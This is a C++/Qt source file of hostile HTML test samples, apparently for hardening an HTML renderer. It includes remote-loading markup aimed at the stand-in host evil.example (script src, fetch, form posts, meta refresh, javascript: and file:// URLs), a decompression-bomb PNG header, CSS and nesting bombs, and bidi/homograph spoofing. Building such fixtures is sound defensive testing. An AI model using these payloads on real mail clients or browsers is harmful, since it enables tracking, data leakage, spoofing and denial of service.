// SPDX-License-Identifier: GPL-3.0-or-later
#include "HostileHtml.h"

#include <QByteArray>
#include <QStringList>

#include <random>

namespace
{
QString many(const char *piece, int times)
{
    return QString::fromUtf8(piece).repeated(times);
}

// A picture of 40,000 x 40,000 px, of which nothing but the header is true: what decodes it asks for 1.6 GB.
QString pictureBomb()
{
    const QByteArray header = QByteArray::fromHex("89504e470d0a1a0a0000000d49484452"
                                                  "00009c4000009c400100000000");
    return QString::fromLatin1(header.toBase64());
}

QString styleBomb()
{
    QString rules, elements;
    for (int i = 0; i < 5000; ++i)
        rules += QStringLiteral("div div div .c%1, table td p span.c%1{color:#%2;padding:%3px}\n")
                     .arg(i)
                     .arg(i * 97 % 0xFFFFFF, 6, 16, QLatin1Char('0'))
                     .arg(i % 9);
    for (int i = 0; i < 1500; ++i)
        elements +=
            QStringLiteral("<div class=c%1><div><div><span class=c%1>t</span></div></div></div>").arg(i);
    return QStringLiteral("<style>") + rules + QStringLiteral("</style>") + elements;
}

QString styleNesting()
{
    return QStringLiteral("<style>") + many("* ", 3000) + QStringLiteral("{color:red}") + many("a{", 3000) +
           many("}", 3000) + QStringLiteral(" @import url(http://evil.example/i.css); .x{width:calc(") +
           many("(", 5000) + QStringLiteral("1px") + many(")", 5000) +
           QStringLiteral(")}</style><p class=x style=\"font-size:999999px\">deep</p>"
                          "<p style=\"margin:-99999999px;letter-spacing:1e9px;line-height:1e30\">deep</p>");
}

QString soup()
{
    static const QStringList pieces{QStringLiteral("<table>"),
                                    QStringLiteral("<tr>"),
                                    QStringLiteral("<td>"),
                                    QStringLiteral("</table>"),
                                    QStringLiteral("<div style=\"float:left\">"),
                                    QStringLiteral("<p>"),
                                    QStringLiteral("</p>"),
                                    QStringLiteral("<a href=\"x\">"),
                                    QStringLiteral("<select>"),
                                    QStringLiteral("<option>"),
                                    QStringLiteral("<svg>"),
                                    QStringLiteral("<math>"),
                                    QStringLiteral("</td>"),
                                    QStringLiteral("<b>"),
                                    QStringLiteral("<i>"),
                                    QStringLiteral("</b>"),
                                    QStringLiteral("<frameset>"),
                                    QStringLiteral("&#x110000;"),
                                    QStringLiteral("&amp"),
                                    QStringLiteral("<!--"),
                                    QStringLiteral("-->"),
                                    QStringLiteral("<![CDATA["),
                                    QStringLiteral("<td colspan=99>"),
                                    QStringLiteral("<ul>"),
                                    QStringLiteral("<li>"),
                                    QStringLiteral("deep "),
                                    QStringLiteral("<font size=+9>"),
                                    QStringLiteral("<style>*{display:table-cell}</style>"),
                                    QStringLiteral("<center>"),
                                    QString(QChar(0)),
                                    QString(QChar(0xFFFE)),
                                    QStringLiteral("<img>"),
                                    QStringLiteral("<br>"),
                                    QStringLiteral("<pre>")};
    std::mt19937 random(5);
    QString html = QStringLiteral("deep");
    for (int i = 0; i < 20'000; ++i)
        html += pieces[qsizetype(random() % std::mt19937::result_type(pieces.size()))];
    return html;
}

QString spans()
{
    QString html = QStringLiteral("<table>");
    for (int row = 0; row < 300; ++row) {
        html += QStringLiteral("<tr>");
        for (int cell = 0; cell < 30; ++cell)
            html += QStringLiteral("<td colspan=%1 width=%2%>deep</td>")
                        .arg(1 + row * cell % 37)
                        .arg(row * 7 % 100);
        html += QStringLiteral("</tr>");
    }
    return html + QStringLiteral("</table>");
}
} // namespace

std::vector<HostileHtml> htmlThatAsks()
{
    const auto text = [](const char *html) { return QString::fromUtf8(html); };
    return {
        {"everything that loads",
         text("<html><head><base href=\"http://evil.example/\"><link rel=stylesheet "
              "href=\"http://evil.example/l.css\">"
              "<link rel=prefetch href=\"http://evil.example/p\"><link rel=preload as=image "
              "href=\"//evil.example/q\">"
              "<link rel=icon href=\"http://evil.example/i\"><link rel=dns-prefetch href=\"//evil.example\">"
              "<style>@import url(http://evil.example/1.css);@import \"http://evil.example/2.css\";"
              "@font-face{font-family:X;src:url(http://evil.example/f)}p{font-family:X;background:"
              "url(http://evil.example/b)}li{list-style-image:url(http://evil.example/c)}body{cursor:"
              "url(http://evil.example/d),auto}.e:before{content:url(http://evil.example/e)}.f{b\\61ckground:"
              "ur\\6c(http://evil.example/g)}</style></head><body background=\"http://evil.example/h\">"
              "<img src=\"http://evil.example/1.png\"><img srcset=\"http://evil.example/2.png 1x\" "
              "src=\"cid:none\">"
              "<picture><source srcset=\"http://evil.example/3.png\"><img src=\"cid:x\"></picture>"
              "<table background=\"http://evil.example/4\"><tr><td "
              "background=http://evil.example/5>t</td></tr></table>"
              "<input type=image src=\"http://evil.example/6\"><video poster=\"http://evil.example/7\" "
              "src=\"http://evil.example/8\" autoplay></video><audio src=http://evil.example/9 "
              "autoplay></audio>"
              "<iframe src=\"http://evil.example/10\"></iframe><object "
              "data=\"http://evil.example/11\"></object>"
              "<embed src=\"http://evil.example/12\"><svg><image xlink:href=\"http://evil.example/13\" "
              "href=\"http://evil.example/14\"/></svg><p class=e "
              "style=\"background-image:url('http://evil.example/15')\">"
              "b</p><div style=\"background:url(&quot;http://evil.example/16&quot;)\">x</div>"
              "<img src=\"//evil.example/17\"><img src=\" http://evil.example/18\"><img "
              "lowsrc=\"http://evil.example/19\" "
              "dynsrc=\"http://evil.example/20\"><bgsound src=\"http://evil.example/21\"><script "
              "src=\"http://evil.example/22\"></script><script>fetch(\"http://evil.example/23\")</script>"
              "<img src=x onerror=\"this.src='http://evil.example/24'\"></body></html>")},
        {"refresh",
         text("<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/r\"><meta http-equiv=refresh "
              "content=\"0;url=javascript:evil.example\"><p>refresh</p>")},
        {"forms",
         text("<form action=\"http://evil.example/f\" method=post id=f><input name=a value=b><input "
              "type=submit "
              "autofocus><button formaction=\"http://evil.example/g\">b</button></form><script>"
              "document.forms[0].submit(/evil.example/)</script><isindex action=\"http://evil.example/i\">")},
        {"addresses",
         text(
             "<a href=\"javascript:alert('evil.example')\">1</a><a href=\" java\nscript:evil.example\">2</a>"
             "<a href=\"data:text/html,evil.example\">3</a><img src=\"javascript:evil.example\">"
             "<iframe srcdoc=\"<img src=http://evil.example/s>\"></iframe><object "
             "data=\"data:text/html,<img src=http://evil.example/o>\"></object><img src=\"data:image/svg+xml,"
             "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/v'/></svg>\">")},
        {"files", text("<img src=\"file:///evil-file\"><iframe src=\"file:///evil-file\"></iframe>"
                       "<link rel=stylesheet href=\"file:///evil-file\"><img src=\"/evil-file\">"
                       "<img src=\"\\\\127.0.0.1\\evil-file\\x.png\"><img src=\"qrc:/evil-file\"><img "
                       "src=\":/evil-file\">"
                       "<div style=\"background:url(file:///evil-file)\">x</div>")},
    };
}

std::vector<HostileHtml> htmlThatIsTooMuch()
{
    const QString deep = QStringLiteral("deep");
    QString paragraphs;
    for (int i = 0; i < 50'000; ++i)
        paragraphs += QStringLiteral(
                          "<p style=\"color:#333\">Paragraph %1 with deep words that fill a line of it</p>\n")
                          .arg(i);
    return {
        {"10,000 divs", many("<div>", 10'000) + deep + many("</div>", 10'000)},
        {"2,000 tables in each other",
         many("<table><tr><td>", 2000) + deep + many("</td></tr></table>", 2000)},
        {"10,000 tables in each other", many("<table><tr><td>", 10'000) + deep},
        {"50,000 inline tags", many("<b><i>", 25'000) + deep},
        {"5 MB of paragraphs", paragraphs},
        {"5 MB on one line", QStringLiteral("<p>deep ") + many("word ", 1'000'000)},
        {"5 MB without a space", QStringLiteral("<p>deep ") + many("A", 5'000'000)},
        {"20,000 rows", QStringLiteral("<table border=1>") +
                            many("<tr><td>deep</td><td>abc</td><td>def</td><td>x</td></tr>", 20'000)},
        {"style sheet of 5,000 rules", styleBomb()},
        {"nested style sheet", styleNesting()},
        {"bidi and combining",
         QStringLiteral(
             "<p>\u202Egnp.exe\u202C <a href=\"https://xn--pple-43d.com\">\u0430pple.com</a>deep") +
             many("Z\u0300\u0301\u0302\u0303", 3000) + many("\u202E", 20'000)},
        {"picture bomb",
         deep + QStringLiteral("<img src=\"data:image/png;base64,%1\" width=100>").arg(pictureBomb())},
        {"huge sizes",
         QStringLiteral("deep<img src=\"cid:i\" width=10000000 height=10000000><table width=99999999 "
                        "height=99999999><tr><td colspan=100000 rowspan=100000>x</td></tr></table>"
                        "<hr width=1e9 size=1e9>")},
        {"50,000 cells",
         QStringLiteral("<table>") + (QStringLiteral("<tr>") + many("<td>deep</td>", 200)).repeated(250)},
        {"tag soup", soup()},
        {"16,000 floats", QStringLiteral("<style>span{display:inline-block;float:left;width:33.3%}</style>") +
                              many("<span>deep<span>b</span></span>", 8000)},
        {"spanning cells", spans()},
    };
}
